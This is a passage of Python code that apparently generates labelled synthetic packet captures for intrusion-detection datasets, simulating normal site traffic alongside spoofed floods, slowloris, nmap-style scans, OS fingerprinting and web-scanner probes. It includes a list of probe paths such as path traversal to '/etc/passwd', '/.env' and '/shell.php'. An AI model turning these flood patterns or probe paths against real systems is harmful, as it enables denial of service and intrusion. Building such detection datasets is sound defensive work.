            addrs = ([site.broker.ip] if name.endswith(site.domain) else [public_ip(rng)
                                                                           for _ in range(rng.randint(1, 3))])
            if qtype == 28:
                addrs = [rng.randbytes(16)] if rng.random() < 0.5 else []
            cap.udp(t + rng.uniform(0.0005, 0.03), NORMAL, site.dns, h, 53, sport,
                    dns_answer(qid, name, qtype, addrs, rng.choice([60, 300, 3600])))
            qid = (qid + 1) & 0xFFFF
    # NTP: each Linux-ish host polls at 64-1024 s
    for h in lan:
        if rng.random() < 0.5:
            continue
        poll = rng.choice([64, 128, 256]) * rng.uniform(0.9, 1.1)
        t = t0 + rng.uniform(0, poll)
        while t < t1:
            req = bytes((0x23,)) + b"\0" * 39 + struct.pack("!II", int(t) + 2208988800, rng.getrandbits(32))
            cap.udp(t, NORMAL, h, site.ntp, 123 if rng.random() < 0.5 else h.port(rng), 123, req)
            resp = (bytes((0x24, 2, 6, 0xE9)) + rng.randbytes(12) + b"\0" * 8 + req[40:48]
                    + struct.pack("!IIII", int(t) + 2208988800, 0, int(t) + 2208988800, 1))
            cap.udp(t + site.rtt_wan, NORMAL, site.ntp, h, 123, 123, resp)
            t += poll
    # ARP: refreshes between LAN hosts
    t = t0
    while t < t1:
        t += rng.expovariate(1 / rng.uniform(2, 10))
        a, b = rng.sample(lan, 2)
        cap.arp(t, NORMAL, 1, a.mac, a.ip, b"\0" * 6, b.ip)
        cap.arp(t + rng.uniform(0.0001, 0.002), NORMAL, 2, b.mac, b.ip, a.mac, a.ip)
    # ICMP: a monitoring host pings the PLCs and the broker
    mon = rng.choice([site.hmi, site.gw, *site.clients])
    ident = rng.randrange(65536)
    for target in [*site.plcs, site.broker]:
        seq, t = 1, t0 + rng.uniform(0, 30)
        size = rng.choice([56, 32, 48])
        while t < t1:
            pay = struct.pack("!Q", int(t * 1e6)) + bytes(range(size - 8)) if size >= 8 else b""
            rest = struct.pack("!HH", ident, seq)
            cap.ip(t, NORMAL, mon, target, wire.PROTO_ICMP, wire.icmp(8, 0, rest, pay))
            cap.ip(t + site.rtt_lan, NORMAL, target, mon, wire.PROTO_ICMP, wire.icmp(0, 0, rest, pay))
            seq += 1
            t += rng.choice([1, 5, 10, 30, 60]) * rng.uniform(0.98, 1.02)


# --- attacks ---------------------------------------------------------------------------------------
def _victim(site: Site, rng: random.Random) -> Host:
    return rng.choice([site.broker, site.web, *site.plcs])


def _source(site: Site, rng: random.Random) -> Host:
    """The attacker: a compromised LAN host, or one outside reached through the gateway."""
    return site.attacker if rng.random() < 0.6 else site.ext_attacker


def _spoof_src(site: Site, rng: random.Random, a: Host) -> Host:
    o = a.os
    ip = public_ip(rng) if rng.random() < 0.85 else site.prefix + bytes((rng.randint(1, 254),))
    return Host("spoof", ip, a.mac, o, rng.choice([64, 64, 128, 255]) - (rng.randint(3, 20) if a.external else 0),
                True, ipid=rng.randrange(65536))


def atk_ddos_tcp(cap: Capture, site: Site, t: float, n: int, label: str = "DDoS_TCP") -> None:
    """hping3 -S --flood --rand-source -p PORT: spoofed SYNs; the victim answers some with SYN/ACK or RST."""
    rng = cap.rng
    a, v = _source(site, rng), _victim(site, rng)
    dport = rng.choice([80, site.http_port, 1883, 502, 443, 22, rng.randint(1, 65535)])
    open_ = dport in (1883, 502, site.http_port, 80) and rng.random() < 0.8
    rate = rng.uniform(1500, 20000)
    win = rng.choice([64, 512, 1024, rng.randrange(65536)])
    payload_len = rng.choice([0, 0, 0, 120, 1024])
    inc_port = rng.random() < 0.3
    reply = rng.uniform(0.05, 0.5)
    for i in range(n):
        t += rng.expovariate(rate)
        s = _spoof_src(site, rng, a)
        sport = rng.randint(1024, 65535)
        seq = rng.getrandbits(32)
        dp = (dport + i) & 0xFFFF if inc_port else dport
        cap.ip(t, label, s, v, wire.PROTO_TCP,
               wire.tcp(s.ip, v.ip, sport, dp, seq, 0, SYN, win, b"", rng.randbytes(payload_len)),
               df=False, ident=rng.randrange(65536))
        if rng.random() < reply:
            back = Host("x", s.ip, site.gw.mac if s.ip[:3] != site.prefix else rand_mac(rng, "client"), v.os, v.ttl)
            if open_:
                cap.ip(t + 0.0001, label, v, back, wire.PROTO_TCP,
                       wire.tcp(v.ip, s.ip, dp, sport, rng.getrandbits(32), seq + 1, SYN | ACK, v.os.window,
                                Tcp.syn_options(v)))
            else:
                cap.ip(t + 0.0001, label, v, back, wire.PROTO_TCP,
                       wire.tcp(v.ip, s.ip, dp, sport, 0, seq + 1, RST | ACK, 0))


class IcmpErrorLimit:
    """Linux's rate limit on the ICMP errors a host sends to one peer: a token bucket holding 6,
    refilled at one a second (a burst of 6 port unreachables, then about one a second)."""

    BURST = 6.0

    def __init__(self) -> None:
        self._buckets: dict[Any, list[float]] = {}  # peer -> [tokens, last refill]

    def allow(self, peer: Any, t: float) -> bool:
        """Whether an error to ``peer`` at ``t`` goes out (and takes a token)."""
        bucket = self._buckets.setdefault(peer, [self.BURST, t])
        bucket[0] = min(self.BURST, bucket[0] + (t - bucket[1]))
        bucket[1] = t
        if bucket[0] >= 1.0:
            bucket[0] -= 1.0
            return True
        return False


def port_unreachable(cap: Capture, t: float, label: str, frm: Host, to: Host, datagram: bytes,
                     quote: int = 548) -> None:
    """ICMP port unreachable from ``frm`` to ``to``, quoting the first ``quote`` bytes of the IP
    ``datagram`` it answers (Linux quotes up to 548)."""
    cap.ip(t, label, frm, to, wire.PROTO_ICMP, wire.icmp(3, 3, b"\0\0\0\0", datagram[:quote]), df=False)


def atk_ddos_udp(cap: Capture, site: Site, t: float, n: int, label: str = "DDoS_UDP") -> None:
    """hping3 --udp --flood --rand-source (or a UDP flooder): datagrams to one or random ports."""
    rng = cap.rng
    a, v = _source(site, rng), _victim(site, rng)
    rate = rng.uniform(2000, 25000)
    fixed = rng.random() < 0.5
    dport = rng.choice([53, 123, 161, 1900, 5683, rng.randint(1, 65535)])
    size = rng.choice([0, 0, 18, 64, 512, 1024, 1400, -1])
    filler = rng.choice([b"X", b"\0", b"A"])
    spoof = rng.random() < 0.8
    last_unreach = -1.0
    for _ in range(n):
        t += rng.expovariate(rate)
        s = _spoof_src(site, rng, a) if spoof else a
        ln = rng.randint(0, 1400) if size < 0 else size
        dp = dport if fixed else rng.randint(1, 65535)
        payload = rng.randbytes(ln) if rng.random() < 0.5 else filler * ln
        sport = rng.randint(1024, 65535)
        cap.udp(t, label, s, v, sport, dp, payload, df=False)
        if t - last_unreach > rng.uniform(0.001, 1.0) and dp not in (53, 123):  # rate-limited unreachables
            last_unreach = t
            back = Host("x", s.ip, site.gw.mac, v.os, v.ttl)
            port_unreachable(cap, t + 0.0002, label, v, back,
                             wire.ipv4(s.ip, v.ip, wire.PROTO_UDP, wire.udp(s.ip, v.ip, sport, dp, payload), 64, 0), 28)


def atk_ddos_icmp(cap: Capture, site: Site, t: float, n: int, label: str = "DDoS_ICMP") -> None:
    """hping3 --icmp --flood --rand-source / ping -f: echo requests; the victim replies to each source."""
    rng = cap.rng
    a, v = _source(site, rng), _victim(site, rng)
    rate = rng.uniform(1000, 20000)
    size = rng.choice([0, 0, 56, 64, 100, 500, 1000, 1472])
    ident = rng.randrange(65536)
    spoof = rng.random() < 0.8
    seq = 0
    for _ in range(n):
        t += rng.expovariate(rate)
        s = _spoof_src(site, rng, a) if spoof else a
        seq = (seq + (1 if rng.random() < 0.9 else 256)) & 0xFFFF
        rest = struct.pack("!HH", ident, seq)
        pay = rng.randbytes(size) if rng.random() < 0.3 else b"\0" * size
        cap.ip(t, label, s, v, wire.PROTO_ICMP, wire.icmp(8, 0, rest, pay), df=False)
        if rng.random() < 0.6:
            back = Host("x", s.ip, site.gw.mac if spoof else a.mac, v.os, v.ttl)
            cap.ip(t + 0.0001, label, v, back, wire.PROTO_ICMP, wire.icmp(0, 0, rest, pay))


def atk_ddos_http(cap: Capture, site: Site, t: float, n: int, label: str = "DDoS_HTTP") -> None:
    """HTTP floods from several bots (GET floods with cache-busting queries) or slowloris/slow POSTs."""
    rng = cap.rng
    v = site.web
    host = v.addr if site.http_port == 80 else f"{v.addr}:{site.http_port}"
    bots = [site.attacker if rng.random() < 0.5 else external(site, rng, "bot") for _ in range(rng.randint(1, 6))]
    mode = rng.choice(["flood", "flood", "slowloris", "slowpost"])
    paths = ["/", "/index.html", "/api/sensors", "/login", "/search", "/dashboard"]
    start, count = t, len(cap.frames)
    while len(cap.frames) - count < n:
        b = rng.choice(bots)
        c = Tcp(cap, label, b, v, site.http_port, start + rng.uniform(0, 0.05), rtt(site, b, v))
        c.open()
        ua = rng.choice(BROWSER_UAS)
        if mode == "flood":
            for _ in range(rng.randint(1, 20)):
                q = f"?{rng.choice(['r', 'id', 'cb', 'q'])}={rng.randrange(10**9)}" if rng.random() < 0.7 else ""
                c.exchange(http_request(rng, rng.choice(["GET", "GET", "GET", "POST", "HEAD"]), host,
                                        rng.choice(paths) + q, ua),
                           http_response(rng, rng.choice([200, 200, 503]), _entropy_text(rng, rng.randint(0, 2000)),
                                         "text/html", "nginx"), rng.uniform(0.0005, 0.05))
            c.reset(True) if rng.random() < 0.5 else c.close(True)
            start += rng.uniform(0.0005, 0.01)
        elif mode == "slowloris":
            c.send(True, f"GET /?{rng.randrange(2000)} HTTP/1.1\r\nUser-Agent: {ua}\r\n".encode())
            for _ in range(rng.randint(2, 8)):
                c.t += rng.uniform(5, 15)
                c.send(True, f"X-a: {rng.randint(1, 5000)}\r\n".encode())
            start += rng.uniform(0.005, 0.05)
        else:
            size = rng.randint(10**5, 10**7)
            c.send(True, http_request(rng, "POST", host, rng.choice(paths), ua,
                                      extra=[("Content-Length", str(size))]).rstrip(b"\r\n") + b"\r\n\r\n")
            for _ in range(rng.randint(3, 10)):
                c.t += rng.uniform(1, 10)
                c.send(True, rng.randbytes(rng.randint(1, 4)))
            start += rng.uniform(0.005, 0.05)


def ber(tag: int, body: bytes) -> bytes:
    """One BER tag-length-value, with the long length form past 127 bytes (as SNMP agents send)."""
    n = len(body)
    if n < 0x80:
        return bytes((tag, n)) + body
    size = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes((tag, 0x80 | len(size))) + size + body


def ber_oid(dotted: str) -> bytes:
    """An OBJECT IDENTIFIER's BER encoding ("1.3.6.1.2.1.1.1.0")."""
    arcs = [int(a) for a in dotted.split(".")]
    out = bytearray((40 * arcs[0] + arcs[1],))
    for arc in arcs[2:]:
        chunk = [arc & 0x7F]
        while arc > 0x7F:
            arc >>= 7
            chunk.append(0x80 | (arc & 0x7F))
        out += bytes(reversed(chunk))
    return ber(0x06, bytes(out))


#: SNMP PDU tags
SNMP_GET, SNMP_GETNEXT, SNMP_RESPONSE, SNMP_GETBULK, SNMP_TRAP2 = 0xA0, 0xA1, 0xA2, 0xA5, 0xA7


def snmp_message(version: int, community: bytes, pdu: int, rid: int, varbinds: list[tuple[str, bytes]],
                 fields: tuple[int, int] = (0, 0)) -> bytes:
    """An SNMPv1/v2c message: ``varbinds`` are (OID, BER-encoded value) pairs (``b"\\x05\\x00"``, NULL,
    in requests); ``fields`` are error-status and error-index (non-repeaters and max-repetitions in
    a GetBulk)."""
    vbs = b"".join(ber(0x30, ber_oid(oid) + value) for oid, value in varbinds)
    body = ber(0x02, struct.pack("!I", rid)) + ber(0x02, bytes((fields[0],))) + ber(0x02, bytes((fields[1],)))
    return ber(0x30, ber(0x02, bytes((version,))) + ber(0x04, community) + ber(pdu, body + ber(0x30, vbs)))


def snmp_pdu(community: bytes, rid: int, value: bytes | None = None) -> bytes:
    """SNMPv1 GetRequest for sysDescr.0 (BER), as scanners send to UDP 161; with ``value``, the agent's
    GetResponse carrying it."""
    return snmp_message(0, community, SNMP_GET if value is None else SNMP_RESPONSE, rid,
                        [("1.3.6.1.2.1.1.1.0", b"\x05\x00" if value is None else ber(0x04, value))])


def udp_probe(port: int, rng: random.Random) -> bytes:
    """The payload a UDP scanner sends to ``port``: a protocol request where one is known, else none.

    Why: a datagram without payload gets no answer from most UDP services, so nmap -sU and masscan
    send each well-known port a valid request of its protocol (DNS, NTP, SNMP, NetBIOS, SSDP, ...)
    and an empty datagram elsewhere; a scan is therefore a burst of datagrams of many sizes.
    """
    if port in (53, 5353):
        return dns_query(rng.randrange(65536), rng.choice(["version.bind", "", "_services._dns-sd._udp.local"]),
                         rng.choice([16, 255, 12]))
    if port == 123:  # NTPv3/v4 client request: LI/VN/mode, then the transmit timestamp
        return bytes((rng.choice([0xE3, 0x1B, 0x23]),)) + bytes(39) + rng.randbytes(8)
    if port == 161:
        return snmp_pdu(rng.choice([b"public", b"private"]), rng.getrandbits(31))
    if port == 137:  # NetBIOS NBSTAT query for "*"
        return (struct.pack("!HHHHHH", rng.randrange(65536), 0, 1, 0, 0, 0)
                + b"\x20CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00\x00\x21\x00\x01")
    if port == 1900:
        return ssdp_msearch(2, "ssdp:all")
    if port == 111:  # ONC RPC portmapper NULL call
        return struct.pack("!IIIIIIIIII", rng.getrandbits(32), 0, 2, 100000, 2, 0, 0, 0, 0, 0)
    if port in (500, 4500):  # IKE main mode header with a random initiator cookie
        return (b"\0\0\0\0" if port == 4500 else b"") + rng.randbytes(8) + bytes(8) + b"\x01\x10\x02\x00" \
            + bytes(4) + struct.pack("!I", 28)
    if port == 5683:  # CoAP GET /.well-known/core
        return bytes((0x40, 0x01)) + struct.pack("!H", rng.randrange(65536)) + b"\xbb.well-known\x04core"
    if port == 69:
        return b"\x00\x01" + rng.choice([b"r7tftp.txt", b"config.txt", b"a"]) + b"\x00octet\x00"
    if port == 5060:
        return (b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\n"
                b"To: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nMax-Forwards: 70\r\n"
                b"Content-Length: 0\r\nContact: <sip:nm@nm>\r\nAccept: application/sdp\r\n\r\n")
    if port == 47808:  # BACnet/IP Who-Is
        return b"\x81\x0b\x00\x0c\x01\x20\xff\xff\x00\xff\x10\x08"
    if port == 11211:
        return struct.pack("!HHHH", rng.randrange(65536), 0, 1, 0) + b"stats\r\n"
    if port == 2049 or rng.random() < 0.03:  # RPC NULL call on other RPC ports
        return struct.pack("!IIIIIIIIII", rng.getrandbits(32), 0, 2, 100003 if port == 2049 else 100000,
                           rng.choice([2, 3]), 0, 0, 0, 0, 0)
    return b""


#: the UDP ports a "--top-ports" scan starts with: the services most often found open
TOP_UDP_PORTS = (631, 161, 137, 123, 138, 1434, 445, 135, 67, 53, 139, 500, 68, 520, 1900, 4500, 514, 49152, 162,
                 69, 5353, 111, 49154, 1701, 998, 996, 997, 999, 3283, 49153, 1812, 136, 2222, 2049, 3278, 5060,
                 1025, 1433, 3456, 80, 20031, 1026, 7, 1646, 1645, 593, 518, 2048, 626, 1027, 177, 1719, 427, 497,
                 4444, 1023, 65024, 19, 9, 49193, 1029, 49, 88, 1028, 17185, 1718, 49186, 2000, 31337, 5683,
                 47808, 11211, 502, 1883, 4840, 20000, 44818, 102)
#: UDP services a target may run, and what it answers to the scanner's probe
UDP_SERVICES = (53, 123, 161, 1900, 5353, 5683, 47808)


def _udp_answer(port: int, probe: bytes, rng: random.Random) -> bytes:
    """A running service's reply to a scanner's probe."""
    if port in (53, 5353) and len(probe) >= 12:
        qid = struct.unpack("!H", probe[:2])[0]
        return dns_answer(qid, "version.bind", 16, [], 0, rcode=rng.choice([0, 5, 4]))
    if port == 123:
        return bytes((0x24, rng.randint(1, 4), 6, 0xE9)) + rng.randbytes(44)
    if port == 161:
        return snmp_pdu(b"public", rng.getrandbits(31), rng.choice([b"Linux plc 5.10.0", b"Siemens, SIMATIC",
                                                                    b"WAGO 750-8212", b"RouterOS RB4011"]))
    if port == 1900:
        return (b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nST: upnp:rootdevice\r\n"
                b"USN: uuid:" + rng.randbytes(8).hex().encode() + b"::upnp:rootdevice\r\n\r\n")
    return rng.randbytes(rng.randint(8, 120))


def _udp_scan(cap: Capture, site: Site, a: Host, targets: list[Host], t: float, n: int, label: str) -> None:
    """nmap -sU or masscan -pU: what a UDP scan looks like on the wire.

    nmap sends its probes in bursts of tens to hundreds (thousands of datagrams a second for a few
    milliseconds), waits for answers, and retransmits to the ports that stayed silent; closed ports
    answer with ICMP port unreachable, which Linux rate-limits per peer (a burst of 6, then about 1
    a second), so most of a scan against Linux is silence and retransmissions. masscan sends each
    probe once at a steady rate. Both keep one source port and send protocol payloads where known.
    """
    rng = cap.rng
    masscan = rng.random() < 0.25
    sport = rng.randint(32768, 61000) if not masscan else rng.choice([61000, rng.randint(40000, 65000)])
    head = list(TOP_UDP_PORTS[:rng.randint(15, len(TOP_UDP_PORTS))])
    extra = rng.sample(range(1, 65536), k=rng.randint(0, max(1, n // 3)))
    ports = list(dict.fromkeys(head + extra))
    rng.shuffle(ports)  # nmap randomises the order unless told not to
    policy = {id(v): rng.choice(["linux", "linux", "linux", "every", "silent"]) for v in targets}
    services = {id(v): set(rng.sample(UDP_SERVICES, k=rng.randint(0, 3))) for v in targets}
    limit = IcmpErrorLimit()
    pending = [(v, p) for p in ports for v in targets]
    burst_rate = rng.uniform(3000, 40000) if not masscan else rng.uniform(500, 10000)
    count = len(cap.frames)
    for _round in range(1 if masscan else rng.randint(2, 6)):
        silent: list[tuple[Host, int]] = []
        i = 0
        while i < len(pending) and len(cap.frames) - count < n:
            group = pending[i:i + (len(pending) if masscan else rng.randint(10, 150))]
            i += len(group)
            for v, p in group:
                t += rng.expovariate(burst_rate)
                probe = udp_probe(p, rng)
                cap.udp(t, label, a, v, sport, p, probe, df=False, ident=rng.randrange(65536))
                back = Host("x", a.ip, a.mac, v.os, v.ttl)
                if p in services[id(v)]:
                    cap.udp(t + site.rtt_lan, label, v, back, p, sport, _udp_answer(p, probe, rng))
                    continue
                if policy[id(v)] == "every" or (policy[id(v)] == "linux" and limit.allow(id(v), t)):
                    port_unreachable(cap, t + site.rtt_lan, label, v, back, wire.ipv4(
                        a.ip, v.ip, wire.PROTO_UDP, wire.udp(a.ip, v.ip, sport, p, probe), 64, 0))
                else:
                    silent.append((v, p))
            t += 0.0 if masscan else rng.uniform(0.1, 1.5)  # waiting for the answers
        pending = silent
        if not pending or len(cap.frames) - count >= n:
            break


def _host_sweep(cap: Capture, site: Site, a: Host, t: float, n: int, label: str) -> float:
    """nmap -sn (host discovery, also the first step of a scan of a range) or arp-scan over the
    site's /24; returns the time it ends.

    On the attacker's own LAN, discovery is ARP: a request for every address in ascending order, at
    hundreds to thousands a second, the live hosts answering, a second pass for the silent ones. From
    outside, nmap sends each address an ICMP echo request, a SYN to 443, an ACK to 80 and an ICMP
    timestamp request; live hosts answer the echo and the timestamp and reset the TCP probes.
    """
    rng = cap.rng
    live = {h.ip: h for h in site.hosts if not h.external}
    rate = rng.uniform(200, 3000)
    start = len(cap.frames)
    passes = [list(range(1, 255))]
    if not a.external:
        passes.append([i for i in passes[0] if site.prefix + bytes((i,)) not in live])
    for k, last_octets in enumerate(passes):
        if k:
            t += rng.uniform(0.2, 1.0)  # waiting for the first pass's answers
        for i in last_octets:
            if len(cap.frames) - start >= n:
                return t
            ip = site.prefix + bytes((i,))
            t += rng.expovariate(rate)
            v = live.get(ip)
            if not a.external:
                if ip == a.ip:
                    continue
                cap.arp(t, label, 1, a.mac, a.ip, b"\0" * 6, ip)
                if v is not None:
                    cap.arp(t + site.rtt_lan * rng.uniform(0.3, 1.0), label, 2, v.mac, v.ip, a.mac, a.ip)
                continue
            target = v or Host("x", ip, site.gw.mac, site.gw.os, 64)
            back = Host("x", a.ip, site.gw.mac, target.os, target.ttl)
            ident, sport = rng.randrange(65536), rng.randint(32768, 61000)
            rest = struct.pack("!HH", ident, 0)
            cap.ip(t, label, a, target, wire.PROTO_ICMP, wire.icmp(8, 0, rest, b""), df=False)
            cap.ip(t, label, a, target, wire.PROTO_TCP, wire.tcp(a.ip, ip, sport, 443, rng.getrandbits(32), 0, SYN,
                                                                 1024, wire.opt_mss(1460)), df=False)
            cap.ip(t, label, a, target, wire.PROTO_TCP, wire.tcp(a.ip, ip, sport, 80, 0, rng.getrandbits(32), ACK,
                                                                 1024), df=False)
            cap.ip(t, label, a, target, wire.PROTO_ICMP, wire.icmp(13, 0, rest, b"\0" * 12), df=False)
            if v is not None:
                rtt = site.rtt_wan
                cap.ip(t + rtt, label, v, back, wire.PROTO_ICMP, wire.icmp(0, 0, rest, b""))
                cap.ip(t + rtt, label, v, back, wire.PROTO_TCP, wire.tcp(ip, a.ip, 80, sport, 0, 0, RST, 0))
    return t


def atk_port_scan(cap: Capture, site: Site, t: float, n: int, label: str = "Port_Scanning") -> None:
    """Host discovery (nmap's first step against a range, or nmap -sn / arp-scan) in half the runs,
    then one to three scans in a row (an attacker often runs a TCP and then a UDP scan), each nmap
    -sS, -sT, -sU or masscan, probing one port after another with the targets' answers.

    The sweep draws from a generator of its own, seeded by the run's start, and is placed before the
    scans in time: the session's other traffic keeps the draws it had without sweeps.
    """
    rng = cap.rng
    a = _source(site, rng)
    modes = rng.sample(["syn", "connect", "udp", "masscan"], k=rng.choice([1, 1, 2, 3]))
    sweep_rng = random.Random(f"host-sweep {t!r} {n}")
    if sweep_rng.random() < 0.5:
        discovery = Capture(sweep_rng, cap.pad_short)
        end = _host_sweep(discovery, site, a, 0.0, n // 3, label)
        shift = t - end - sweep_rng.uniform(0.5, 5.0)
        for ts, _idx, frame, lab in discovery.frames:
            cap.add(ts + shift, frame, lab)
    count = len(cap.frames)  # the scans' share counts from here
    for k, mode in enumerate(modes):
        targets = rng.sample([h for h in site.hosts if not h.external and h is not a], k=rng.randint(1, 3))
        share = (n - (len(cap.frames) - count)) // (len(modes) - k)
        if share < 10:
            break
        if mode == "udp":
            _udp_scan(cap, site, a, targets, t, share, label)
        else:
            _tcp_scan(cap, site, a, targets, t, share, label, mode)
        t = max(f[0] for f in cap.frames[count:]) + rng.uniform(1.0, 30.0)


def _tcp_scan(cap: Capture, site: Site, a: Host, targets: list[Host], t: float, n: int, label: str,
              mode: str) -> None:
    """nmap -sS / -sT and masscan: one probe per port, in random order, with the targets' answers."""
    rng = cap.rng
    open_ports = {80, 443, 22, 502, 1883, site.http_port, 8883, 53}
    rate = {"syn": rng.uniform(300, 5000), "connect": rng.uniform(100, 1000),
            "masscan": rng.uniform(1000, 10000)}[mode]
    ports = rng.sample(range(1, 65536), k=min(65535, n)) if rng.random() < 0.5 else \
        rng.sample(range(1, 10000), k=min(9999, n))
    sport = rng.randint(32768, 61000)
    count = len(cap.frames)
    for p in ports:
        if len(cap.frames) - count >= n:
            break
        v = rng.choice(targets)
        t += rng.expovariate(rate)
        is_open = p in open_ports or rng.random() < 0.002
        back = Host("x", a.ip, a.mac, v.os, v.ttl)
        if mode in ("syn", "masscan"):
            seq = rng.getrandbits(32)
            opts = wire.opt_mss(1460) if mode == "syn" else b""
            win = 1024 if mode == "syn" else rng.choice([1024, 1024, 65535])
            ident = rng.randrange(65536) if mode == "syn" else (int.from_bytes(v.ip, "big") ^ p ^ seq) & 0xFFFF
            cap.ip(t, label, a, v, wire.PROTO_TCP, wire.tcp(a.ip, v.ip, sport, p, seq, 0, SYN, win, opts), df=False,
                   ttl=rng.randint(37, 59) if mode == "syn" else 255, ident=ident)
            if is_open:
                s2 = rng.getrandbits(32)
                cap.ip(t + site.rtt_lan, label, v, back, wire.PROTO_TCP,
                       wire.tcp(v.ip, a.ip, p, sport, s2, seq + 1, SYN | ACK, v.os.window, wire.opt_mss(v.os.mss)))
                cap.ip(t + site.rtt_lan * 1.1, label, a, v, wire.PROTO_TCP,
                       wire.tcp(a.ip, v.ip, sport, p, seq + 1, 0, RST, 0), df=False)
            elif rng.random() < 0.9:
                cap.ip(t + site.rtt_lan, label, v, back, wire.PROTO_TCP,
                       wire.tcp(v.ip, a.ip, p, sport, 0, seq + 1, RST | ACK, 0))
        else:
            c = Tcp(cap, label, a, v, p, t, site.rtt_lan)
            if c.open(refused=not is_open):
                c.reset(True)


def atk_fingerprint(cap: Capture, site: Site, t: float, n: int, label: str = "Fingerprinting") -> None:
    """nmap -O: the SEQ/ECN/T1-T7/U1/IE probes (odd flags, window sizes and option orders), repeated."""
    rng = cap.rng
    a = _source(site, rng)
    seq_opts = [
        (1, wire.OPT_NOP.join([wire.opt_ws(10), wire.opt_mss(1460), wire.opt_ts(0xFFFFFFFF, 0)]) + wire.OPT_SACKOK),
        (63, wire.opt_mss(1400) + wire.opt_ws(0) + wire.OPT_SACKOK + wire.opt_ts(0xFFFFFFFF, 0) + b"\0"),
        (4, wire.opt_ts(0xFFFFFFFF, 0) + wire.OPT_NOP + wire.OPT_NOP + wire.opt_ws(5) + wire.OPT_NOP
         + wire.opt_mss(640)),
        (4, wire.OPT_SACKOK + wire.opt_ts(0xFFFFFFFF, 0) + wire.opt_ws(10) + b"\0"),
        (16, wire.opt_mss(536) + wire.OPT_SACKOK + wire.opt_ts(0xFFFFFFFF, 0) + wire.opt_ws(10) + b"\0"),
        (512, wire.opt_mss(265) + wire.OPT_SACKOK + wire.opt_ts(0xFFFFFFFF, 0)),
    ]
    std = wire.opt_ws(10) + wire.OPT_NOP + wire.opt_mss(265) + wire.opt_ts(0xFFFFFFFF, 0) + wire.OPT_SACKOK
    count = len(cap.frames)
    while len(cap.frames) - count < n:
        v = rng.choice([h for h in site.hosts if not h.external and h is not a])
        back = Host("x", a.ip, a.mac, v.os, v.ttl)
        op = rng.choice([80, 502, 1883, site.http_port, 22])
        cp = rng.randint(30000, 65000)
        sport = rng.randint(32768, 65000)
        probes: list[tuple[int, int, int, bytes, bool]] = [(op, SYN, w, o, False) for w, o in seq_opts]
        probes += [(op, SYN | ECE | CWR, 3, wire.opt_ws(10) + wire.OPT_NOP + wire.opt_mss(1460) + wire.OPT_SACKOK
                    + wire.OPT_NOP + wire.OPT_NOP, False),
                   (op, 0, 128, std, True), (op, SYN | FIN | URG | PSH, 256, std, False), (op, ACK, 1024, std, True),
                   (cp, SYN, 31337, std, False), (cp, ACK, 32768, std, True), (cp, FIN | PSH | URG, 65535, std, False)]
        for i, (port, flags, win, opts, df) in enumerate(probes):
            t += 0.1 if i < 6 else rng.uniform(0.001, 0.05)
            seq = rng.getrandbits(32)
            cap.ip(t, label, a, v, wire.PROTO_TCP,
                   wire.tcp(a.ip, v.ip, sport + i, port, seq, rng.getrandbits(32) if flags & ACK else 0, flags, win,
                            opts, urg=0xF7F5 if flags & URG else 0), df=df, ttl=rng.randint(37, 60))
            if port == op and flags & SYN and not flags & FIN:
                cap.ip(t + site.rtt_lan, label, v, back, wire.PROTO_TCP,
                       wire.tcp(v.ip, a.ip, port, sport + i, rng.getrandbits(32), seq + 1, SYN | ACK, v.os.window,
                                Tcp.syn_options(v)))
                cap.ip(t + 2 * site.rtt_lan, label, a, v, wire.PROTO_TCP,
                       wire.tcp(a.ip, v.ip, sport + i, port, seq + 1, 0, RST, 0), df=False)
            elif rng.random() < 0.7:
                cap.ip(t + site.rtt_lan, label, v, back, wire.PROTO_TCP,
                       wire.tcp(v.ip, a.ip, port, sport + i, 0 if not flags & ACK else rng.getrandbits(32),
                                seq + (1 if flags & SYN else 0), RST | (0 if flags & ACK else ACK), 0))
        # U1 and the two IE probes
        t += rng.uniform(0.01, 0.1)
        cap.udp(t, label, a, v, sport, cp, b"C" * 300, df=False, ident=0x1042)
        orig = wire.ipv4(a.ip, v.ip, wire.PROTO_UDP, wire.udp(a.ip, v.ip, sport, cp, b"C" * 300), 64, 0x1042)
        port_unreachable(cap, t + site.rtt_lan, label, v, back, orig, rng.choice([28, 328]))
        ident = rng.randrange(65536)
        for k, (tos, code, size) in enumerate([(0, 9, 120), (4, 0, 150)]):
            rest = struct.pack("!HH", ident + k, 295 + k)
            cap.ip(t + 0.01 * k, label, a, v, wire.PROTO_ICMP, wire.icmp(8, code, rest, b"\0" * size),
                   tos=tos, df=k == 0)
            cap.ip(t + 0.01 * k + site.rtt_lan, label, v, back, wire.PROTO_ICMP, wire.icmp(0, code, rest, b"\0" * size))
        t += rng.uniform(0.5, 3)


NIKTO_PATHS = ["/admin/", "/phpmyadmin/", "/.git/HEAD", "/.env", "/cgi-bin/test.cgi", "/server-status", "/wp-login.php",
               "/backup.zip", "/config.php.bak", "/etc/passwd", "/../../../../etc/passwd", "/console", "/manager/html",
               "/actuator/env", "/.DS_Store", "/robots.txt", "/CHANGELOG.txt", "/xmlrpc.php", "/shell.php",
               "/solr/admin/", "/HNAP1/", "/boaform/admin/formLogin", "/api/v1/pods", "/debug/pprof/",
               "/cgi-bin/luci", "/owa/auth/logon.aspx", "/jmx-console/", "/_profiler/phpinfo", "/vendor/phpunit/"]


def _http_attack(cap: Capture, site: Site, t: float, n: int, label: str,
                 make: Callable[[random.Random, str], tuple[str, str, bytes, str | None, list[tuple[str, str]]]],
                 statuses: list[int], ua: str, rate: float, per_conn: tuple[int, int]) -> None:
    """Common shape of web attacks: connections carrying requests made by ``make``, with responses."""
    rng = cap.rng
    a = _source(site, rng)
    v = site.web
    host = v.addr if site.http_port == 80 else f"{v.addr}:{site.http_port}"
    count = len(cap.frames)
    srv = rng.choice(SERVERS)
    while len(cap.frames) - count < n:
        c = Tcp(cap, label, a, v, site.http_port, t, rtt(site, a, v), site.loss)
        c.open()
        for _ in range(rng.randint(*per_conn)):
            method, path, body, ctype, extra = make(rng, host)
            c.exchange(http_request(rng, method, host, path, ua, body, ctype, extra),
                       http_response(rng, rng.choice(statuses), _entropy_text(rng, rng.randint(0, 3000)),
                                     "text/html; charset=UTF-8", srv), rng.uniform(0.001, 0.08))
            c.t += rng.expovariate(rate)
